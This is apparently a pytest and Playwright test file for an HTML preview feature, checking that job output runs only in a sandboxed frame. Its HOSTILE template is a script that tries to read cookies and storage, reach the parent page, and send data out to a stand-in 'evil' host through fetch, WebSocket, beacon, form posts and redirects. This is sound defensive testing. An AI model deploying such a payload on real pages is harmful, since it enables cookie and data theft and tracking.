"""An HTML output in a real browser: shown in a frame of the page, where its scripts run and reach
nothing; shown nowhere else, and used as nothing else.
"""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Frame, Page

from tests.browser.conftest import NewPage
from tests.browser.ground import Faults
from tests.journeys.server import Server

HOSTILE = """<!doctype html>
<link rel=prefetch href="{evil}/prefetch"><link rel=preload as=image href="{evil}/preload">
<link rel=modulepreload href="{evil}/module"><link rel=stylesheet href="{evil}/style">
<link rel=manifest href="{evil}/manifest"><link rel=icon href="{evil}/icon">
<base href="{evil}/">
<script type=speculationrules>{{"prefetch": [{{"urls": ["{evil}/speculated"]}}]}}</script>
<style>@import "{evil}/import"; @font-face {{ font-family: x; src: url({evil}/font) }}
body {{ background: url({evil}/background); font-family: x }}</style>
<img src="{evil}/img"><video src="{evil}/video"></video><object data="{evil}/object"></object>
<embed src="{evil}/embed"><iframe src="{evil}/frame"></iframe>
<svg><image href="{evil}/svg"/></svg><script src="{evil}/script"></script>
<form id=f action="{evil}/form" method=post><input name=x></form>
<a id=a href="{evil}/a" ping="{evil}/ping" target=_blank>x</a>
<script>
const seen = {{origin: self.origin}};
const tried = async (name, act) => {{
  try {{ seen[name] = String(await act()); }} catch (error) {{ seen[name] = error.name; }}
}};
const opened = (source) => new Promise((yes, no) => {{
  source.onopen = () => yes("open");
  source.onerror = () => no(new TypeError("x"));
}});
(async () => {{
  await tried("cookie", () => document.cookie);
  await tried("storage", () => localStorage.length);
  await tried("session", () => sessionStorage.length);
  await tried("database", () => indexedDB.open("x"));
  await tried("caches", () => caches.open("x"));
  await tried("service", () => navigator.serviceWorker.register("x.html"));
  await tried("parent", () => parent.document.title);
  await tried("top", () => {{ top.location = "{evil}/top"; return "led"; }});
  await tried("ours", async () => (await fetch("{ours}/stats")).status);
  await tried("fetch", async () => (await fetch("{evil}/fetch", {{mode: "no-cors"}})).type);
  await tried("socket", () => opened(new WebSocket("{evil}/socket".replace("http", "ws"))));
  await tried("events", () => opened(new EventSource("{evil}/events")));
  await tried("popup", () => open("{evil}/popup"));
  await tried("dialog", () => confirm("x"));
  await tried("module", () => import("{evil}/import.js"));
  await tried("eval", () => eval("1"));
  await tried("camera", () => navigator.mediaDevices.getUserMedia({{video: true}}));
  navigator.sendBeacon("{evil}/beacon");
  document.getElementById("f").submit();
  document.getElementById("a").click();
  const image = new Image();
  image.src = "{evil}/image";
  document.body.append(image);
  parent.postMessage(seen, "*");
  location = "{evil}/location";
}})();
</script>"""


class Elsewhere:
    """Another web site: what it is asked for, and a page of its own."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.page = b""
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(outer.page)

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever)
        self.thread.start()

    def end(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    site = Elsewhere()
    yield site
    site.end()


def made(server: Server, **files: str) -> str:
    """A job that leaves these files, each NAME.html."""
    code = "".join(
        f"open({name + '.html'!r}, 'w').write({text!r})\n" for name, text in files.items()
    )
    job = server.start({"main.py": code.encode()})
    assert server.finish(job)["status"] == "completed"
    return job


def framed(page: Page, url: str) -> Frame:
    """The frame in which `page` shows that, once it has loaded."""
    page.evaluate(
        """async (url) => {
          const frame = document.createElement("iframe");
          frame.sandbox = "allow-scripts";
          frame.src = url;
          window.told = new Promise((yes, no) => {
            addEventListener("message", (event) => yes(event.data));
            setTimeout(no, 60_000, new Error("nothing was told"));
          });
          const loaded = new Promise((yes) => { frame.onload = yes; });
          document.body.append(frame);
          await loaded;
        }""",
        url,
    )
    return page.frames[-1]


def test_its_scripts_run_and_reach_nothing(
    new_page: NewPage, server: Server, url: str, faults: Faults, elsewhere: Elsewhere
) -> None:
    faults.allow("")  # it is full of what no page may
    refresh = f'<meta http-equiv=refresh content="0;url={elsewhere.url}/refresh">'
    job = made(server, x=HOSTILE.format(evil=elsewhere.url, ours=url), refresh=refresh)
    page = new_page()
    page.goto(url)
    framed(page, f"/preview/{job}/x.html")
    seen: dict[str, Any] = page.evaluate("told")
    assert seen.pop("origin") == "null"
    assert (seen.pop("popup"), seen.pop("dialog")) == ("null", "false")
    errors = {"SecurityError", "TypeError", "EvalError", "NotFoundError", "NotAllowedError"}
    assert set(seen.values()) <= errors, seen
    framed(page, f"/preview/{job}/refresh.html")
    page.wait_for_timeout(1000)  # nothing comes that could be waited for
    assert elsewhere.asked == []
    assert len(page.context.pages) == 1


def test_it_looks_as_it_was_made(new_page: NewPage, server: Server, url: str) -> None:
    picture = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="
    job = made(
        server,
        one=f"""<style>p {{ color: rgb(1, 2, 3) }}</style><p>hi \u00fc</p><img src="{picture}">
        <a href="two.html">next</a><script>document.querySelector("p").append("!")</script>""",
        two="<h1>Two</h1>",
    )
    page = new_page()
    page.goto(url)
    frame = framed(page, f"/preview/{job}/one.html")
    assert frame.inner_text("p") == "hi \u00fc!"
    assert frame.eval_on_selector("p", "(p) => getComputedStyle(p).color") == "rgb(1, 2, 3)"
    assert frame.eval_on_selector("img", "(img) => img.naturalWidth") == 1
    frame.click("a")
    assert frame.wait_for_selector("h1").inner_text() == "Two"  # other pages of the same report


def test_by_itself_it_is_not_shown(new_page: NewPage, server: Server, url: str) -> None:
    job = made(server, x="<script>document.title = 'ran'</script>")
    page = new_page()
    answer = page.goto(f"{url}/preview/{job}/x.html")
    assert answer and answer.status == 400 and "in a frame" in answer.text()
    assert page.title() != "ran"


def test_other_sites_can_neither_frame_nor_load_it(
    new_page: NewPage, server: Server, url: str, faults: Faults, elsewhere: Elsewhere
) -> None:
    faults.allow("")
    job = made(server, x="<script>parent.postMessage('ran', '*')</script>ran = 1")
    place = f"{url}/preview/{job}/x.html"
    elsewhere.page = f"""<script>ran = 0; addEventListener("message", () => {{ ran = 2; }})</script>
    <iframe id=f src="{place}"></iframe><object data="{place}"></object><embed src="{place}">
    <script src="{place}"></script><link rel=stylesheet href="{place}"><img src="{place}">
    """.encode()
    page = new_page()
    page.goto(elsewhere.url)
    assert page.evaluate("ran") == 0
    assert [frame.url for frame in page.frames if frame.url.startswith(url)] == []


def test_an_invited_site_shows_it(new_page: NewPage, faults: Faults, elsewhere: Elsewhere) -> None:
    server = Server("--no-quotas", "--allow-origin", elsewhere.url)
    try:
        faults.origins |= {elsewhere.url, f"http://127.0.0.1:{server.port}"}
        job = made(server, x="<script>parent.postMessage('ran', '*')</script>")
        page = new_page()
        page.goto(elsewhere.url)
        framed(page, f"http://127.0.0.1:{server.port}/preview/{job}/x.html")
        assert page.evaluate("told") == "ran"
    finally:
        assert server.end() == 0, server.banner
